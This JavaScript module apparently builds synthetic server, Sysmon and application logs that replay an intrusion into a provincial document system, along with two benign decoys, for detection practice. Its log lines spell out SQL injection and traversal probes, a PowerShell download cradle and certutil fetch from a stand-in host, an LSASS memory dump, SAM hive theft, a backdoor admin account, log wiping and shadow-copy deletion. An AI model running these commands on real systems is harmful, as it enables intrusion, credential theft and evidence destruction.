/** The story: an intrusion into the document management system, step by step, and two harmless look-alikes. */
import { app01, browsers, dc01, logCleared, nginx, powershell, qlvb, security, serviceControl, syslog5424, sysmon } from './lines.mjs';

const scanner = '203.0.113.66';
const operator = '203.0.113.77';
const [chrome] = browsers;
const clerk = {
  user: 'ltmai.sonoivu',
  user_name: 'Lê Thị Mai',
  user_agency: 'Sở Nội vụ',
  agency_status: 'dang_hoat_dong',
  role: 'van_thu',
  src_ip: operator,
  user_agent: chrome,
  session: '9d41c07be2f3',
};
const shell = '/DinhKem/2026/11/CV_1532_SNV.aspx';
const shellPath = 'D:\\QLVB\\DinhKem\\2026\\11\\CV_1532_SNV.aspx';
const system32 = 'C:\\Windows\\System32\\';
const w3wp = `${system32}inetsrv\\w3wp.exe`;
const w3wpLine = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "QLVB" -v "v4.0"';
const pool = 'IIS APPPOOL\\QLVB';
const highest = 'NT AUTHORITY\\SYSTEM';

/** Text of a PowerShell command as -EncodedCommand takes it. */
const encoded = (text) => Buffer.from(text, 'utf16le').toString('base64');

export function createAttack() {
  const records = [];
  let record = 990_000;
  let process = 4200;
  const nextRecord = () => (record += 1);
  const add = (atSeconds, source, inject, line) =>
    records.push({ at_ms: Math.round(atSeconds * 1000), source, inject, line });
  const proxy = (at, inject, request) =>
    add(at, 'rp-qlvb', inject, nginx('qlvb-rp01', { ip: scanner, bytes: 540, agent: chrome, ...request }));
  const app = (at, inject, fields) => add(at, 'app-qlvb', inject, qlvb({ ...clerk, result: 'success', ...fields }));
  const windows = (at, inject, line, source = 'win-app01') => add(at, source, inject, line);
  const start = (at, inject, image, commandLine, { parent = `${system32}cmd.exe`, parentLine = 'cmd.exe', user = pool, computer = app01 } = {}) => {
    process += 8;
    const full = image.includes(':') ? image : system32 + image;
    windows(
      at,
      inject,
      sysmon(computer, nextRecord(), 1, {
        ProcessGuid: `{7c1d9e20-5a3b-6921-${process.toString(16).padStart(4, '0')}-000000001f00}`,
        ProcessId: process,
        Image: full,
        OriginalFileName: full.split('\\').at(-1),
        CommandLine: commandLine,
        CurrentDirectory: 'D:\\QLVB\\DinhKem\\2026\\11\\',
        User: user,
        IntegrityLevel: 'High',
        ParentProcessId: process - 8,
        ParentImage: parent,
        ParentCommandLine: parentLine,
      }),
      computer === dc01 ? 'win-dc01' : 'win-app01',
    );
  };
  /** One command through the web shell: the request, the shell, the program. */
  const command = (at, inject, image, line, options = {}) => {
    proxy(at, inject, { ip: operator, method: 'POST', uri: shell, bytes: 380 + Math.round(at * 7) });
    start(at + 0.05, inject, 'cmd.exe', `"cmd.exe" /c ${line}`, { parent: w3wp, parentLine: w3wpLine });
    start(at + 0.12, inject, image, line, { parentLine: `"cmd.exe" /c ${line}`, ...options });
  };

  // Reconnaissance
  const nikto = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)';
  const nuclei = 'Mozilla/5.0 (compatible; Nuclei/3.4; +https://scan.example.net)';
  for (const [i, uri] of ['/', '/robots.txt', '/TaiKhoan/DangNhap', '/TraCuu/', '/api/', '/Help/', '/swagger/index.html', '/elmah.axd', '/trace.axd', '/aspnet_client/'].entries()) {
    proxy(8 + i * 0.45, 'i01-quet', { uri, status: i < 4 ? 200 : 404, agent: i % 2 === 0 ? nikto : nuclei, bytes: 300 + i });
  }
  for (const [i, uri] of ['/.env', '/.git/config', '/web.config.bak', '/backup.zip', '/wwwroot.zip', '/phpinfo.php', '/actuator/env', '/qlvb.sql.gz'].entries()) {
    proxy(17 + i * 0.5, 'i02-do-tep', { uri, status: 404, bytes: 1245 + i });
  }
  proxy(23, 'i03-telerik', { uri: '/Telerik.Web.UI.WebResource.axd?type=rau', status: 200, bytes: 182 });
  proxy(23.7, 'i03-telerik', { uri: '/Telerik.Web.UI.DialogHandler.aspx?dp=1', status: 500, bytes: 3044 });
  for (const [i, uri] of [
    '/TraCuu/VanBan?soKyHieu=1%27%20OR%20%271%27=%271',
    '/TraCuu/VanBan?soKyHieu=1%27%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--',
    "/TraCuu/VanBan?soKyHieu=1';WAITFOR%20DELAY%20'0:0:5'--",
  ].entries()) {
    proxy(28 + i * 0.8, 'i04-chen-ma', { uri, status: 500, bytes: 3100 + i });
  }
  for (const [i, uri] of ['/TaiVe.ashx?tep=../../../../Windows/win.ini', '/TaiVe.ashx?tep=..%2f..%2f..%2fweb.config', '/TaiVe.ashx?tep=%252e%252e%255cweb.config'].entries()) {
    proxy(31 + i * 0.7, 'i04-chen-ma', { uri, status: 403, bytes: 210 + i });
  }

  // A stolen account signs in from the Internet
  for (let i = 0; i < 4; i += 1) {
    app(37 + i * 0.6, 'i05-tai-khoan-lo', { action: 'login', result: 'failure', reason: 'sai_mat_khau', attempt: i + 1, message: `Đăng nhập không thành công lần ${i + 1}: ${clerk.user}` });
  }
  app(40, 'i05-tai-khoan-lo', { action: 'login', message: 'Đăng nhập thành công: Lê Thị Mai (Sở Nội vụ)' });

  // A script goes up as an attachment
  proxy(47, 'i06-tai-len', { ip: operator, method: 'POST', uri: '/VanBan/TaiLen.ashx?phien=9d41c07b&ten=CV_1532_SNV.aspx', bytes: 164 });
  app(47.2, 'i06-tai-len', { action: 'upload', doc_id: 'VB-2026-121532', doc_subject: 'V/v báo cáo công tác văn thư, lưu trữ', file_name: 'CV_1532_SNV.aspx', file_bytes: 2316, message: 'Lê Thị Mai đính kèm tệp CV_1532_SNV.aspx vào văn bản VB-2026-121532' });
  windows(47.3, 'i06-tai-len', sysmon(app01, nextRecord(), 11, { ProcessGuid: '{7c1d9e20-5a3b-6921-0bf0-000000001f00}', ProcessId: 3044, Image: w3wp, TargetFilename: shellPath, User: pool }));

  // The web shell answers
  proxy(55, 'i07-web-shell', { ip: operator, uri: shell, status: 200, bytes: 1480 });
  proxy(57, 'i07-web-shell', { ip: operator, method: 'POST', uri: shell, status: 200, bytes: 311 });

  // Looking around
  command(62, 'i08-do-may-chu', 'whoami.exe', 'whoami /all');
  command(64.5, 'i08-do-may-chu', 'systeminfo.exe', 'systeminfo');
  command(67, 'i08-do-may-chu', 'net.exe', 'net group "Domain Admins" /domain');
  command(69.5, 'i08-do-may-chu', 'nltest.exe', 'nltest /dclist:lamgiang');

  // Protection off, tools in
  command(76, 'i09-tai-cong-cu', 'WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Add-MpPreference -ExclusionPath C:\\Windows\\Temp');
  const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/nang-quyen.ps1')";
  command(79, 'i09-tai-cong-cu', 'WindowsPowerShell\\v1.0\\powershell.exe', `powershell -nop -w hidden -enc ${encoded(cradle)}`);
  windows(79.4, 'i09-tai-cong-cu', powershell(app01, nextRecord(), cradle, '{5f0c2f7a-0d0e-4c39-8f35-3b8d4a1f9c21}'));
  command(82, 'i09-tai-cong-cu', 'certutil.exe', 'certutil -urlcache -split -f http://203.0.113.66/t.exe C:\\Windows\\Temp\\t.exe');

  // An account of one's own, as administrator
  command(88, 'i10-tai-khoan-moi', 'net.exe', 'net user hotro_cntt Lg@2026-ht /add', { user: highest });
  const sid = 'S-1-5-21-1004336348-1177238915-682003330-1109';
  windows(88.3, 'i10-tai-khoan-moi', security(app01, nextRecord(), 4720, { TargetUserName: 'hotro_cntt', TargetDomainName: 'QLVB-APP01', TargetSid: sid, SubjectUserSid: 'S-1-5-18', SubjectUserName: 'QLVB-APP01$', SubjectDomainName: 'LAMGIANG', SubjectLogonId: '0x3e7', SamAccountName: 'hotro_cntt' }));
  command(92, 'i10-tai-khoan-moi', 'net.exe', 'net localgroup Administrators hotro_cntt /add', { user: highest });
  windows(92.3, 'i10-tai-khoan-moi', security(app01, nextRecord(), 4732, { MemberName: '-', MemberSid: sid, TargetUserName: 'Administrators', TargetDomainName: 'Builtin', TargetSid: 'S-1-5-32-544', SubjectUserSid: 'S-1-5-18', SubjectUserName: 'QLVB-APP01$', SubjectDomainName: 'LAMGIANG', SubjectLogonId: '0x3e7' }));

  // Credentials
  command(99, 'i11-lay-mat-khau', 'rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\Windows\\Temp\\d.dmp full', { user: highest });
  windows(99.3, 'i11-lay-mat-khau', sysmon(app01, nextRecord(), 10, { SourceProcessId: process, SourceImage: `${system32}rundll32.exe`, TargetProcessId: 688, TargetImage: `${system32}lsass.exe`, GrantedAccess: '0x1fffff', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+1df1f' }));
  windows(99.5, 'i11-lay-mat-khau', sysmon(app01, nextRecord(), 11, { ProcessId: process, Image: `${system32}rundll32.exe`, TargetFilename: 'C:\\Windows\\Temp\\d.dmp', User: highest }));
  command(103, 'i11-lay-mat-khau', 'reg.exe', 'reg save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv /y', { user: highest });
  command(105, 'i11-lay-mat-khau', 'reg.exe', 'reg save HKLM\\SYSTEM C:\\Windows\\Temp\\sys.hiv /y', { user: highest });

  // On to the domain controller
  windows(113, 'i12-may-chu-mien', security(dc01, nextRecord(), 4624, { SubjectUserName: '-', TargetUserName: 'qtv.hung', TargetDomainName: 'LAMGIANG', TargetLogonId: '0x9a21c4', LogonType: 3, LogonProcessName: 'NtLmSsp', AuthenticationPackageName: 'NTLM', WorkstationName: 'QLVB-APP01', IpAddress: '192.0.2.21', IpPort: '50122', ProcessName: '-' }), 'win-dc01');
  windows(113.6, 'i12-may-chu-mien', serviceControl(dc01, nextRecord(), 7045, { ServiceName: 'CapNhatHeThong', ImagePath: '%COMSPEC% /Q /c echo whoami /all ^> \\\\127.0.0.1\\C$\\__kq 2^>^&1 ^> C:\\Windows\\Temp\\x.bat & C:\\Windows\\Temp\\x.bat', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }), 'win-dc01');
  start(114.2, 'i12-may-chu-mien', 'whoami.exe', 'whoami /all', { user: highest, computer: dc01, parentLine: 'C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\Temp\\x.bat' });
  start(116, 'i12-may-chu-mien', 'schtasks.exe', 'schtasks /create /sc onstart /tn CapNhatHeThong /tr C:\\Windows\\Temp\\t.exe /ru SYSTEM', { user: highest, computer: dc01 });

  // Rights and letters
  app(126, 'i13-cap-quyen', { user: 'qtht.qlvb', user_name: 'Quản trị hệ thống', user_agency: 'Văn phòng UBND tỉnh', role: 'quan_tri_he_thong', action: 'role_grant', target_user: clerk.user, new_role: 'quan_tri_he_thong', message: 'Gán vai trò quản trị hệ thống cho ltmai.sonoivu' });
  const script = 'python-requests/2.32.5';
  app(132, 'i14-lay-cong-van', { role: 'quan_tri_he_thong', action: 'export', doc_count: 640, file_name: 'xuat_cong_van_2026.zip', user_agent: script, message: 'Lê Thị Mai xuất 640 văn bản' });
  for (let i = 0; i < 24; i += 1) {
    const id = 118_200 + i * 3;
    const at = 134 + i * 0.5;
    proxy(at, 'i14-lay-cong-van', { ip: operator, uri: `/VanBan/TaiVe.ashx?id=VB-2026-${id}`, bytes: 184_000 + i * 997, agent: script });
    app(at + 0.05, 'i14-lay-cong-van', { role: 'quan_tri_he_thong', action: 'download', doc_id: `VB-2026-${id}`, doc_count: 1, file_name: `CV_${id}.pdf`, user_agent: script, message: `Lê Thị Mai tải văn bản VB-2026-${id}` });
  }

  // Traces wiped
  command(152, 'i15-xoa-dau-vet', 'wevtutil.exe', 'wevtutil cl Security', { user: highest });
  windows(152.4, 'i15-xoa-dau-vet', logCleared(app01, nextRecord(), { user: 'hotro_cntt', domain: 'QLVB-APP01', log: 'Security' }));
  command(154, 'i15-xoa-dau-vet', 'wevtutil.exe', 'wevtutil cl "Windows PowerShell"', { user: highest });
  windows(154.4, 'i15-xoa-dau-vet', logCleared(app01, nextRecord(), { user: 'hotro_cntt', domain: 'QLVB-APP01', log: 'Windows PowerShell' }));
  command(157, 'i16-pha-sao-luu', 'vssadmin.exe', 'vssadmin delete shadows /all /quiet', { user: highest });
  app(161, 'i15-xoa-dau-vet', { role: 'quan_tri_he_thong', action: 'audit_purge', doc_count: 0, message: 'Xóa nhật ký kiểm toán trước ngày 22/11/2026' });
  windows(165, 'i15-xoa-dau-vet', sysmon(app01, nextRecord(), 23, { ProcessId: process, User: pool, Image: w3wp, TargetFilename: shellPath, Hashes: 'SHA256=3B1E0C5A77D94F0E8A6B2C4D1F9E7058A3C6D2B4E8F10967C5A4B3D2E1F00918', IsExecutable: 'false', Archived: 'true' }));

  // Look-alikes: the province's own scan of the portal, and a backup server that still signs in as root
  const nessus = 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Nessus/10.9 (ke hoach ra quet 11/2026)';
  for (const [i, uri] of ['/', '/robots.txt', '/gioi-thieu', '/tin-tuc', '/lien-he', '/sitemap.xml', '/api/v1/', '/favicon.ico'].entries()) {
    add(72 + i * 0.4, 'rp-cong', 'd01-ra-quet-duoc-duyet', nginx('cong-web01', { ip: '192.0.2.50', uri, bytes: 4100 + i, agent: nessus }));
  }
  add(120, 'linux', 'd02-may-sao-luu', syslog5424(38, 'mail01', 'sshd', 40_771, 'Accepted publickey for root from 192.0.2.61 port 51840 ssh2: ED25519 SHA256:k7Vb0m2c1H9sZ'));

  return records.sort((a, b) => a.at_ms - b.at_ms);
}
